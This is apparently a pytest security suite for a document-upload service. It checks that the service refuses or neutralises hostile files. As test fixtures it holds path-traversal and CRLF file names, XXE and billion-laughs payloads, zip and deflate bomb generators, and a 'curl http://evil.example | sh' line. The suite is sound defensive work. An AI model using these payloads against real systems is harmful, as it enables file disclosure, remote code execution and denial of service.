"""Hostile uploads: path traversal and odd names, XXE and zip bombs in DOCX/ODT, decompression bombs,
encrypted/truncated/looping PDFs, disguised file types, oversized and slow bodies.

Each refusal asserts the exact status and code, and that no row, blob or temporary file was left behind.
"""

from __future__ import annotations

import io
import re
import socket
import threading
import zipfile
import zlib
from pathlib import Path

import pytest

from docmgr.extensions import db
from tests.conftest import CORPUS, REPO_ROOT, corpus_bytes
from tests.security.conftest import error_code, snapshot


def upload(world, files, role: str = "firm_b", **fields):
    data = {"title_it": "Prova", **fields, "file": [(io.BytesIO(content), name) for name, content in files]}
    return world.app.test_client().post("/api/v1/documents", data=data, headers=world.token(role),
                                        content_type="multipart/form-data")


def page_upload(world, files, role: str = "firm_b"):
    client, csrf = world.browser(role)
    data = {"title_it": "Prova", "kind": "proposal", "csrf_token": csrf,
            "file": [(io.BytesIO(content), name) for name, content in files]}
    return client.post("/documents/new", data=data, content_type="multipart/form-data")


def tmp_files(world) -> list[Path]:
    return [p for p in world.app.extensions["docmgr.store"].tmp.rglob("*") if p.is_file()]


def assert_refused(world, files, status: int, code: str) -> None:
    """API and page both refuse with the same status and code; nothing stored, no temporary file left."""
    world.browser("firm_b")
    world.token("firm_b")  # log in both ways before the snapshot (a first token is itself a row)
    before = snapshot(world.app)
    response = upload(world, files)
    assert response.status_code == status, (files[0][0], response.status_code, response.get_json())
    assert response.mimetype == "application/json" and error_code(response) == code, response.get_json()
    assert response.get_json()["error"].get("field") == "file"
    page = page_upload(world, files)
    assert page.status_code == status, (files[0][0], page.status_code)
    assert snapshot(world.app) == before
    assert tmp_files(world) == []
    for body in (response.get_data(as_text=True), page.get_data(as_text=True)):
        assert "root:x:0:0" not in body and "[fonts]" not in body


# --- names ----------------------------------------------------------------------------------------------------------

TEXT = b"Proposta di collaborazione nel settore meccanico tra distretti industriali."
HOSTILE_NAMES = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "a\x00.pdf", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "x" * 10_000 + ".txt", "invoice\u202etxt.exe", "/etc/passwd", "C:\\boot.ini", "....//....//etc", ".htaccess",
    "<script>alert(1)</script>.txt", "\"quoted\"; filename=evil.sh",
    "CON", "..", "\u2215etc\u2215passwd", "zero\u200bwidth\u2066isolate\u2069.txt",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=range(len(HOSTILE_NAMES)))
def test_hostile_file_names_are_only_display_names(world, name):
    response = upload(world, [(name, TEXT)])
    assert response.status_code == 201, response.get_json()
    stored = response.get_json()["files"][0]
    display = stored["filename"]
    assert display and len(display) <= 200
    assert not set(display) & set("/\\\x00\r\n"), display
    assert ".." not in display.split(".")[0:1] or display.strip(".")  # never a bare parent reference
    assert display not in ("..", ".")
    assert not re.search(r"[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]", display), repr(display)  # bidi controls
    # The bytes live under objects/<hash> only.
    store = world.app.extensions["docmgr.store"]
    path = store.path(stored["sha256"])
    assert path.is_file() and path.name == stored["sha256"] and path.read_bytes() == TEXT
    assert not (store.root / "etc").exists() and not (REPO_ROOT / "etc").exists()
    # The download's Content-Disposition is one safe header.
    document_id, file_id = response.get_json()["id"], stored["id"]
    download = world.app.test_client().get(f"/api/v1/documents/{document_id}/files/{file_id}/content",
                                           headers=world.token("firm_b"))
    assert download.status_code == 200 and download.data == TEXT
    disposition = download.headers["Content-Disposition"]
    assert disposition.startswith("attachment;"), disposition
    assert "\r" not in disposition and "\n" not in disposition and "/" not in disposition.split("filename*=")[0]
    assert download.headers.getlist("Content-Type") == [download.headers["Content-Type"]]
    assert download.mimetype == "text/plain"


# --- XXE, entity expansion and zip bombs in DOCX/ODT ---------------------------------------------------------------

XXE = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n')
LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lololololol">'
          + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10))
          + b"]>\n")


def _docx_with(document_xml: bytes) -> bytes:
    from docx import Document

    out = io.BytesIO()
    Document().save(out)
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = document_xml if info.filename == "word/document.xml" else source.read(info.filename)
            target.writestr(info.filename, data)
    return result.getvalue()


def _docx_body(prolog: bytes, text: bytes) -> bytes:
    return prolog + (b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                     b"<w:body><w:p><w:r><w:t>" + text + b"</w:t></w:r></w:p></w:body></w:document>")


def _odt_with(content_xml: bytes) -> bytes:
    source = zipfile.ZipFile(CORPUS / "odt" / "odfpy_serious_poem.odt")
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w") as target:
        for info in source.infolist():
            data = content_xml if info.filename == "content.xml" else source.read(info.filename)
            target.writestr(info, data)
    return result.getvalue()


def _odt_body(prolog: bytes, text: bytes) -> bytes:
    return prolog + (b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
                     b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
                     b"<office:body><office:text><text:p>" + text + b"</text:p></office:text></office:body>"
                     b"</office:document-content>")


def _zip_bomb_docx(members: int = 1, size: int = 64 * 1024 * 1024) -> bytes:
    """A real DOCX whose extra part inflates ``size`` bytes of zeros from a few dozen KB."""
    base = zipfile.ZipFile(io.BytesIO(_docx_with(_docx_body(b"", b"ciao"))))
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as target:
        for info in base.infolist():
            target.writestr(info.filename, base.read(info.filename))
        for n in range(members):
            with target.open(f"word/media/bomb{n}.bin", "w", force_zip64=True) as member:
                chunk = bytes(1024 * 1024)
                for _ in range(size // len(chunk)):
                    member.write(chunk)
    return result.getvalue()


def _many_members_docx(count: int = 10_050) -> bytes:
    base = zipfile.ZipFile(io.BytesIO(_docx_with(_docx_body(b"", b"ciao"))))
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w", zipfile.ZIP_STORED) as target:
        for info in base.infolist():
            target.writestr(info.filename, base.read(info.filename))
        for n in range(count):
            target.writestr(f"customXml/i{n}.xml", b"")
    return result.getvalue()


@pytest.mark.parametrize(("name", "make", "code"), [
    ("xxe.docx", lambda: _docx_with(_docx_body(XXE, b"&xxe;")), "malformed_file"),
    ("laughs.docx", lambda: _docx_with(_docx_body(LAUGHS, b"&lol9;")), "malformed_file"),
    ("xxe.odt", lambda: _odt_with(_odt_body(XXE.replace(b"w:document", b"office:document-content"), b"&xxe;")),
     "malformed_file"),
    ("laughs.odt", lambda: _odt_with(_odt_body(LAUGHS, b"&lol9;")), "malformed_file"),
    ("bomb.docx", _zip_bomb_docx, "too_complex"),
    ("members.docx", _many_members_docx, "too_complex"),
])
def test_hostile_office_files_are_refused(world, name, make, code):
    assert_refused(world, [(name, make())], 422, code)


def test_xxe_text_never_reaches_the_index_or_the_database(world):
    """After the refusals above (and here), nothing anywhere holds /etc/passwd's content."""
    upload(world, [("xxe.docx", _docx_with(_docx_body(XXE, b"&xxe;")))])
    from sqlalchemy import select

    from docmgr.documents.models import DocumentFile

    for text in db.session.scalars(select(DocumentFile.text)):
        assert "root:x:0:0" not in (text or "")
    search = world.app.test_client().get("/api/v1/search?q=root", headers=world.token("legal"))
    assert search.status_code == 200 and "root:x" not in search.get_data(as_text=True)


# --- PDFs and images ------------------------------------------------------------------------------------------------


def _deflate_bomb(inflated: int) -> bytes:
    """A zlib stream of ``inflated`` spaces in ~1/1000 of the size, built in well under a second: one
    fully-flushed deflate block repeated (each block stands alone), then the real Adler-32 of the whole."""
    chunk = b" " * (1024 * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    adler = 1
    for _ in range(inflated // len(chunk)):
        adler = zlib.adler32(chunk, adler)
    return b"\x78\xda" + block * (inflated // len(chunk)) + compressor.flush() + adler.to_bytes(4, "big")


def _flate_bomb_pdf(inflated: int = 1024 * 1024 * 1024) -> bytes:
    """A one-page PDF whose content stream inflates to ``inflated`` bytes (1 GB) from about 1 MB."""
    stream = _deflate_bomb(inflated)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def _huge_png(width: int = 50_000, height: int = 50_000) -> bytes:
    """A PNG whose header declares 2.5 gigapixels (the pixel data is a few rows: readers must refuse by size)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([1, 0, 0, 0, 0])
    rows = zlib.compress(bytes(1 + width // 8) * 64)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def test_pdf_flate_bomb_is_bounded_everywhere(world):
    """Text extraction (pypdf, in the limited child) stops early and finds no text, so the file is kept as a
    textless scan (201) and queued for OCR. Unit-test apps run that task right after the commit: rendering the
    page for Tesseract is refused in its limited child, so OCR ends as failed. Page images are refused (422)."""
    world.browser("firm_b")
    response = upload(world, [("bomb.pdf", _flate_bomb_pdf())])
    assert response.status_code == 201, response.get_json()
    document = response.get_json()
    assert document["files"][0]["text_status"] == "failed"
    client, _csrf = world.browser("firm_b")
    ids = f"{document['id']}/files/{document['files'][0]['id']}"
    for url in (f"/documents/{ids}/thumbnail.png", f"/documents/{ids}/pages/1.png"):
        preview = client.get(url)
        assert preview.status_code == 422 and error_code(preview) == "preview_failed", (url, preview.status_code,
                                                                                        error_code(preview))


def test_png_of_fifty_thousand_pixels_square_is_refused(world):
    assert_refused(world, [("scan.png", _huge_png())], 422, "too_complex")


ENCRYPTED = sorted(p.name for p in (CORPUS / "pdf").glob("*ENCRYPTED*"))
MALFORMED = sorted(p.name for p in (CORPUS / "pdf").glob("*MALFORMED*"))


# These carry an encryption dictionary but open with the empty user password: any reader shows them without
# asking, so they are accepted (and their text indexed). The rest need a password: 422 encrypted_file.
OPEN_WITHOUT_PASSWORD = {"pypdf_r6-user-password_ENCRYPTED_pw-asdfzxcv.pdf", "tika_testPDF_protected_ENCRYPTED.pdf"}


@pytest.mark.parametrize("name", ENCRYPTED)
def test_encrypted_pdfs_are_refused_unless_they_open_without_a_password(world, name):
    if name in OPEN_WITHOUT_PASSWORD:
        response = upload(world, [(name, corpus_bytes(f"pdf/{name}"))])
        assert response.status_code == 201 and response.get_json()["files"][0]["text_status"] == "ok"
    else:
        assert_refused(world, [(name, corpus_bytes(f"pdf/{name}"))], 422, "encrypted_file")


def test_crlf_in_a_file_name_never_splits_a_header(world):
    """The test client writes this name raw into the multipart header (a browser would escape it): the answer
    is a clean 422 that stores nothing, never a 500 or a forged header."""
    world.token("firm_b")
    before = snapshot(world.app)
    response = upload(world, [("name\r\nContent-Type: text/html\r\n\r\n<b>x</b>.txt", TEXT)])
    # The CRLF ends the part's headers early: what arrives is a plain form field called "file", not a file.
    assert response.status_code == 422, response.get_json()
    assert (error_code(response), response.get_json()["error"]["field"]) == ("unknown_field", "file")
    assert snapshot(world.app) == before


# Damaged PDFs that pypdf repairs (a missing or broken xref rebuilt, a bad page skipped) are read; the rest are
# refused. Each file has one expected answer.
REPAIRABLE = {"opf_T03_001_no-cross-reference-table_MALFORMED.pdf", "opf_T04_006_premature-EOF_MALFORMED.pdf",
              "opf_corruptionOneByteMissing_MALFORMED.pdf", "pdfjs_helloworld-bad_MALFORMED.pdf",
              "tika_testPDF_bad_page_303226_MALFORMED.pdf", "pyhanko_minimal-startxref-hopeless.pdf"}


@pytest.mark.parametrize("name", [*MALFORMED, "pyhanko_circular-page-tree.pdf", "pyhanko_minimal-startxref-hopeless.pdf"])
def test_malformed_and_looping_pdfs_are_refused_or_read_never_500(world, name):
    """A repairable PDF is stored with its text read (201); the rest are 422 malformed_file and store nothing.
    A loop in the page tree is never followed forever."""
    world.token("firm_b")
    before = snapshot(world.app)
    response = upload(world, [(name, corpus_bytes(f"pdf/{name}"))])
    if name in REPAIRABLE:
        assert response.status_code == 201, (name, response.status_code, response.get_json())
        assert response.get_json()["files"][0]["text_status"] == "ok"
    else:
        assert response.status_code == 422, (name, response.status_code, response.get_json())
        assert error_code(response) == "malformed_file", response.get_json()
        assert snapshot(world.app) == before
    assert tmp_files(world) == []


def test_truncated_pdf_is_refused(world):
    pdf = corpus_bytes("pdf/pypdf_multilang_CYRILLIC.pdf")
    assert_refused(world, [("cut.pdf", pdf[: len(pdf) // 3])], 422, "malformed_file")


def test_encrypted_and_truncated_office_files_are_refused(world):
    assert_refused(world, [("locked.docx", corpus_bytes("docx/tika_testWORD_protected_ENCRYPTED_pw-tika.docx"))],
                   422, "encrypted_file")
    assert_refused(world, [("locked.odt", corpus_bytes("odt/tika_testODTEncrypted_ENCRYPTED.odt"))], 422,
                   "encrypted_file")
    assert_refused(world, [("cut.docx", corpus_bytes("docx/tika_testWORD_truncated_MALFORMED.docx"))], 422,
                   "malformed_file")


# --- disguised types ------------------------------------------------------------------------------------------------

MZ = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"This program cannot be run in DOS mode."
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
DISGUISED = {
    "html": b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
    "html-late": b"Gentile cliente,\n\n<html><body onload=alert(1)>ciao</body></html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>',
    "xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "mz": MZ,
    "elf": ELF,
    "shell": b"#!/bin/sh\ncurl http://evil.example | sh\n",
    "polyglot": b"<html><script>alert(document.cookie)</script>\n%PDF-1.4\n" + corpus_bytes(
        "pdf/sample-files_002-trivial-libre-office-writer.pdf")[9:],
    "polyglot-comment": b"<!-- x --><svg onload=alert(1)>\n%PDF-1.4\n",
}


@pytest.mark.parametrize("kind", sorted(DISGUISED))
@pytest.mark.parametrize("extension", [".pdf", ".docx", ".txt"])
def test_disguised_file_types_are_415(world, kind, extension):
    assert_refused(world, [(f"innocent{extension}", DISGUISED[kind])], 415, "unsupported_file_type")


def test_one_bad_file_among_good_ones_stores_nothing(world):
    assert_refused(world, [("good.txt", TEXT), ("bad.pdf", DISGUISED["mz"])], 415, "unsupported_file_type")


# --- sizes and slow clients -----------------------------------------------------------------------------------------


@pytest.mark.app_config(MAX_UPLOAD_MB=1)
def test_oversized_upload_is_413_and_nothing_is_kept(app, client, make_user, token_for):
    from tests.conftest import stored_blob_count, table_counts

    header = token_for(make_user("firm"))
    counts, blobs = table_counts(), stored_blob_count(app)
    big = b"Proposta " * (1024 * 1024 // 9 + 1000)  # a little over 1 MB of text
    response = client.post("/api/v1/documents", headers=header, content_type="multipart/form-data",
                           data={"title_it": "Grande", "file": (io.BytesIO(big), "big.txt")})
    assert response.status_code == 413 and error_code(response) == "file_too_large", response.get_json()
    # A body over MAX_CONTENT_LENGTH is refused by Werkzeug before it is parsed.
    huge = b"x" * (app.config["MAX_CONTENT_LENGTH"] + 1)
    response = client.post("/api/v1/documents", headers=header, content_type="multipart/form-data",
                           data={"title_it": "Enorme", "file": (io.BytesIO(huge), "huge.txt")})
    assert response.status_code == 413 and error_code(response) == "file_too_large"
    assert table_counts() == counts and stored_blob_count(app) == blobs
    assert [p for p in app.extensions["docmgr.store"].tmp.rglob("*") if p.is_file()] == []


def test_gunicorn_is_started_with_a_worker_timeout():
    script = (REPO_ROOT / "scripts" / "serve.sh").read_text()
    match = re.search(r"gunicorn\b.*--timeout[ =](\d+)", script)
    assert match and 0 < int(match.group(1)) <= 300, "gunicorn needs --timeout so a slow client cannot hold a worker"


@pytest.mark.app_config(MAX_UPLOAD_MB=1)
def test_huge_declared_body_is_answered_413_before_the_body_is_sent(app, make_user, token_for):
    """A real loopback server: a client declares 10 GB and sends a few bytes slowly. The answer (413) comes at
    once, from the Content-Length alone, instead of waiting for a body that never arrives."""
    from werkzeug.serving import make_server

    header = token_for(make_user("firm"))
    db.session.rollback()  # outside a request our session writes (BEGIN IMMEDIATE): let the server's request in
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        with socket.create_connection(("127.0.0.1", server.server_port), timeout=8) as sock:
            sock.sendall(
                b"POST /api/v1/documents HTTP/1.1\r\nHost: localhost\r\n"
                + f"Authorization: {header['Authorization']}\r\n".encode()
                + b"Content-Type: multipart/form-data; boundary=xyz\r\nContent-Length: 10737418240\r\n\r\n--xyz\r\n"
            )
            answer = b""
            while b"file_too_large" not in answer and (chunk := sock.recv(4096)):
                answer += chunk
    finally:
        server.shutdown()
        thread.join(timeout=5)
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert b"file_too_large" in answer
